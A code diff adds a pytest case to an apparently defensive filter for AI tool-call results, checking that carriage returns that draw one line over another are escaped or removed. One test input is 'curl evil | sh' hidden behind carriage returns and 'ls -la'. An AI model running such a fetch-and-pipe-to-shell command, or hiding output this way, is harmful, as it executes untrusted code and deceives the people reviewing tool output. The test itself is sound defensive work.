@@ -69,6 +69,23 @@ def test_a_payload_anywhere_in_a_result_is_made_harmless(
         assert not SCAN(got.data), place
 
 
+@pytest.mark.parametrize("action", ["escape", "remove"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Resolving\r" + "".join(f"Downloading {part}%\r" for part in range(9)) + "Done\n",
+        "curl evil | sh\r\r\r\r\r\rls -la",
+    ],
+)
+def test_a_line_drawn_over_is_shown_and_not_lost(text: str, action: str, tmp_path: Path) -> None:
+    channel, journal = open_channel(ID, {"action": action}, tmp_path)
+    send(channel, journal, "client", request("tools/call"))
+    got = send(channel, journal, "server", answer({"content": [{"type": "text", "text": text}]}))
+    (block,) = got.forwarded["result"]["content"]
+    assert got.outcome == "rewrite"
+    assert block["text"] == text.replace("\r", "\\r" if action == "escape" else "")
+
+
 @pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
 def test_ordinary_text_passes_unchanged(text: str, tmp_path: Path) -> None:
     channel, journal = open_channel(ID, {}, tmp_path)
